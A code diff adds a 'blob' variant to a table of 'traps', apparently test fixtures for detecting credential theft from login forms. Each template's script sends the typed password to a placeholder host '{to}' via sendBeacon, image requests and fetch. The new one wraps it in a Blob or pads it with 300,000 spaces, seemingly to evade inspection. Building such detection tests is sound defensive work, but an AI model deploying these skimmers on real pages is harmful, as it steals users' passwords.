@@ -46,6 +46,10 @@ TRAPS = {
     "beacon": FORM + "<script>sgnBt.onclick = e => {{ e.preventDefault();"
     " navigator.sendBeacon('{to}', pass.value); new Image().src = '{to}?p=' + encodeURIComponent(pass.value);"
     " fetch('{to}', {{method: 'POST', mode: 'no-cors', body: btoa(pass.value)}}) }}</script>",
+    "blob": FORM + "<script>sgnBt.onclick = e => {{ e.preventDefault();"
+    " navigator.sendBeacon('{to}', new Blob([pass.value])); fetch('{to}', {{method: 'POST', mode: 'no-cors',"
+    " body: new Blob([pass.value])}}); fetch('{to}', {{method: 'POST', mode: 'no-cors',"
+    " body: pass.value + ' '.repeat(300000)}}) }}</script>",
     # the server sends the form on, with all that is in it
     "sent-on": FORM,
     "sent-on-in-pop-up": FORM.replace("<form", "<form target=_blank"),
